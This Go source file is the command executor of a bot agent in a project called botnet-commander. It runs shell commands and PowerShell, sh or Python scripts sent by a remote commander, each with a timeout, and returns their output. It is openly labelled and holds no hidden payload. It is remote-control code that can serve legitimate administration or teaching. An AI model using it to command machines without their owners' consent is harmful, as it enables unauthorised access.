package agent

import (
	"bytes"
	"context"
	"fmt"
	"os/exec"
	"time"

	"github.com/google/shlex"
	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/protocol"
)

// ReplySink receives the executor's reply frames. The session implements it
// over its current connection; replies for a connection that died in the
// meantime fail there and are logged, never retried.
type ReplySink interface {
	SendReply(msg protocol.Message)
}

// interpreterFlag maps a script type to its "execute literal source" flag.
// The type doubles as the interpreter executable name.
var interpreterFlag = map[string]string{
	"powershell": "-Command",
	"sh":         "-c",
	"python":     "-c",
}

type execJob struct {
	msg  protocol.Message
	sink ReplySink
}

// Executor runs dispatched commands in child processes on a single worker
// goroutine, keeping the session's read loop free while a command runs.
type Executor struct {
	hostname string
	log      *zap.Logger
	jobs     chan execJob
	done     chan struct{}
}

// NewExecutor creates an executor; Start must be called before Enqueue.
func NewExecutor(hostname string, log *zap.Logger) *Executor {
	return &Executor{
		hostname: hostname,
		log:      log.Named("executor"),
		jobs:     make(chan execJob, 64),
		done:     make(chan struct{}),
	}
}

// Start launches the worker. It drains until Stop is called.
func (e *Executor) Start() {
	go func() {
		defer close(e.done)
		for job := range e.jobs {
			e.run(job)
		}
	}()
}

// Stop closes the queue and waits for the in-flight job to finish.
func (e *Executor) Stop() {
	close(e.jobs)
	<-e.done
}

// Enqueue hands one dispatched message to the worker. When the queue is full
// the message is dropped with a log line; the commander's event row stays
// unanswered.
func (e *Executor) Enqueue(msg protocol.Message, sink ReplySink) {
	select {
	case e.jobs <- execJob{msg: msg, sink: sink}:
	default:
		e.log.Warn("executor queue full, dropping command", zap.String("kind", msg.Kind()))
	}
}

func (e *Executor) run(job execJob) {
	switch m := job.msg.(type) {
	case protocol.ExeCommand:
		argv, err := shlex.Split(m.Command)
		if err != nil || len(argv) == 0 {
			e.log.Warn("unsplittable command, skipping",
				zap.String("command", m.Command), zap.Error(err))
			return
		}
		result, code := e.execute(argv, m.Timeout)
		job.sink.SendReply(protocol.NewExeCommandReply(m.Command, m.CmdID, result, code))

	case protocol.ExeScript:
		flag, ok := interpreterFlag[m.Type]
		if !ok {
			e.log.Warn("unsupported script type, skipping", zap.String("type", m.Type))
			return
		}
		result, code := e.execute([]string{m.Type, flag, m.Command}, m.Timeout)
		job.sink.SendReply(protocol.NewExeScriptReply(m.Script, m.CmdID, result, code))

	default:
		e.log.Warn("executor received unexpected message", zap.String("kind", job.msg.Kind()))
	}
}

// execute runs argv with the given per-child timeout in seconds and renders
// the reply the way the commander's history expects it.
func (e *Executor) execute(argv []string, timeout int64) (string, protocol.ExitCode) {
	if _, err := exec.LookPath(argv[0]); err != nil {
		msg := fmt.Sprintf("The command %s that commander has sent to bot-agent %s is unknown. "+
			"Will not process it and just move on.", argv[0], e.hostname)
		e.log.Warn("unknown executable", zap.String("command", argv[0]))
		return msg, protocol.NoExitCode()
	}

	ctx, cancel := context.WithTimeout(context.Background(), time.Duration(timeout)*time.Second)
	defer cancel()

	cmd := exec.CommandContext(ctx, argv[0], argv[1:]...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout = &stdout
	cmd.Stderr = &stderr

	err := cmd.Run()
	if cmd.ProcessState == nil {
		return fmt.Sprintf("Failed to start %v on bot-agent %s: %v", argv, e.hostname, err),
			protocol.NoExitCode()
	}
	exitCode := protocol.NewExitCode(cmd.ProcessState.ExitCode())

	if ctx.Err() == context.DeadlineExceeded {
		// The child was killed at the deadline; report the kill, not its
		// partial output.
		return fmt.Sprintf("TimeoutExpired (%d seconds) from bot-agent %s for command %v",
			timeout, e.hostname, argv), exitCode
	}

	out := stdout.String()
	errOut := stderr.String()
	switch {
	case out != "" && errOut != "":
		return fmt.Sprintf("Output: %s, Error: %s", out, errOut), exitCode
	case out != "":
		return out, exitCode
	case errOut != "":
		return errOut, exitCode
	default:
		return fmt.Sprintf("Empty response from bot-agent %s for command %v", e.hostname, argv), exitCode
	}
}
